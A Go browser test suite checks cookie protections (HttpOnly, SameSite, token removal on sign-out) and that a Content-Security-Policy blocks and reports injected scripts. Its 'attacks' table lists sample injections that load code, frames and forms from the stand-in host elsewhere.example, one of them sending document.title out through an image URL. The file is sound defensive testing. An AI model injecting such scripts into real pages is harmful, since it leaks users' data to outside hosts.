package e2e_test

import (
	"slices"
	"strings"
	"testing"

	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/cdproto/storage"
	"github.com/chromedp/chromedp"
)

// The credentials are out of reach of scripts.
func TestCookiesAreKeptFromScripts(t *testing.T) {
	t.Parallel()
	s := open(t, usualNames)
	p := s.ada(t)
	// Read by script on purpose: the value that goes into X-CSRF-Token.
	evaluate[int](p, `(async () => (await fetch("/api/auth/csrf-token")).status)()`)
	if names := evaluate[string](p, readableCookies); names != "csrf_token" {
		t.Errorf("a script of Think Tank reads %q, want the csrf_token alone", names)
	}
	p.opens()
	if names := evaluate[string](p, readableCookies); names != "" {
		t.Errorf("a script of FounderyOS reads %q", names)
	}

	want := map[string]bool{"dao_session": true, "csrf_token": false, "access_token": true, "refresh_token": true}
	for _, cookie := range p.cookies() {
		httpOnly, known := want[cookie.Name]
		if !known || cookie.HTTPOnly != httpOnly || cookie.SameSite != network.CookieSameSiteLax {
			t.Errorf("cookie %s: HttpOnly %t, SameSite %s", cookie.Name, cookie.HTTPOnly, cookie.SameSite)
		}
		delete(want, cookie.Name)
	}
	for name := range want {
		t.Errorf("the browser has no cookie %s", name)
	}

	p.press("sign-out")
	p.sees(signedOut)
	for _, cookie := range p.cookies() {
		if cookie.Name == "access_token" || cookie.Name == "refresh_token" {
			t.Errorf("signed out, and the browser still has %s", cookie.Name)
		}
	}
}

// readableCookies names the cookies that a script of the page can read.
const readableCookies = `document.cookie.split("; ").map((c) => c.split("=")[0]).sort().join()`

// attacks are what an injected script would try, and the directive that stops it.
var attacks = []struct{ name, directive, script string }{
	{"markup from a string", "require-trusted-types-for", `document.body.innerHTML = "<b>x</b>"`},
	{"script from a string", "require-trusted-types-for", `document.createElement("script").text = "1"`},
	{"inline script", "require-trusted-types-for", `const e = document.createElement("script"); e.append("globalThis.ran = 1"); document.head.append(e)`},
	{"foreign script", "script-src-elem", `const e = document.createElement("link"); e.rel = "modulepreload"; e.href = "https://elsewhere.example/x.js"; document.head.append(e)`},
	{"inline style", "style-src-attr", `document.body.setAttribute("style", "color: red")`},
	{"foreign style", "style-src-elem", `const e = document.createElement("link"); e.rel = "stylesheet"; e.href = "https://elsewhere.example/x.css"; document.head.append(e)`},
	{"foreign image", "img-src", `new Image().src = "https://elsewhere.example/?" + document.title`},
	{"foreign request", "connect-src", `fetch("https://elsewhere.example/").catch(() => {})`},
	{"frame", "frame-src", `const e = document.createElement("iframe"); e.src = "https://elsewhere.example/"; document.body.append(e)`},
	{"form", "form-action", `const e = document.createElement("form"); e.action = "https://elsewhere.example/"; document.body.append(e); e.submit()`},
	{"base", "base-uri", `const e = document.createElement("base"); e.href = "https://elsewhere.example/"; document.head.append(e)`},
}

// The policy is in force on every page; and the watch that all stories are under
// sees it broken.
func TestThePolicyStopsWhatDoesNotBelongAndTheWatchSeesIt(t *testing.T) {
	t.Parallel()
	s := open(t, usualNames)
	for _, page := range []string{s.thinkTank + "/", s.founderyOS + "/", s.founderyOS + "/cross-domain"} {
		p := s.person(t)
		p.unjudged = true
		p.visit(page, `html:not([data-state="working"])`)
		for _, attack := range attacks {
			before := len(p.watch.complained())
			evaluate[bool](p, `(() => { try { `+attack.script+` } catch { /* said by Trusted Types */ } return true })()`)
			until(t, "the watch complains of "+attack.name+" on "+page, func() bool {
				return slices.ContainsFunc(p.watch.complained()[before:], func(text string) bool {
					return strings.Contains(text, "policy violated: "+attack.directive)
				})
			})
		}
		if evaluate[bool](p, `"ran" in globalThis`) {
			t.Errorf("%s ran an inline script", page)
		}
		for _, r := range p.watch.sent() {
			if strings.Contains(r.url, "elsewhere.example") && r.status != 0 {
				t.Errorf("%s got an answer from elsewhere", page)
			}
		}
	}
}

// cookies are all that the profile holds, those that scripts cannot see included.
func (p *person) cookies() []*network.Cookie {
	p.t.Helper()
	in := chromedp.FromContext(p.ctx)
	got, err := cdp.Call(p.ctx, in.Browser, storage.GetCookies, storage.GetCookiesParams{BrowserContextID: in.BrowserContextID})
	if err != nil {
		p.t.Fatal(err)
	}
	return got.Cookies
}
